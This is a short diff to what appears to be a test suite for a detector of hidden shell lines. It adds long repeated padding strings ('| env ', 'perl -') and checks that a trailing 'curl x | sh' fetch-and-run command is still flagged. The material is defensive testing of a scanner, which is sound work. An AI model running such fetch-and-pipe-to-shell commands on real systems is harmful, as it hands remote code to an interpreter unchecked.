@@ -73,6 +73,8 @@ describe("a shell line", () => {
       "\n".repeat(10_000),
       "curl ".repeat(5000),
       "|/".repeat(5000),
+      "| env ".repeat(20_000),
+      "perl -".repeat(20_000),
     ])
       expect(hiddenShellLine(`${before}; curl x | sh`)).toBe(
         "fetches something and hands it to an interpreter",
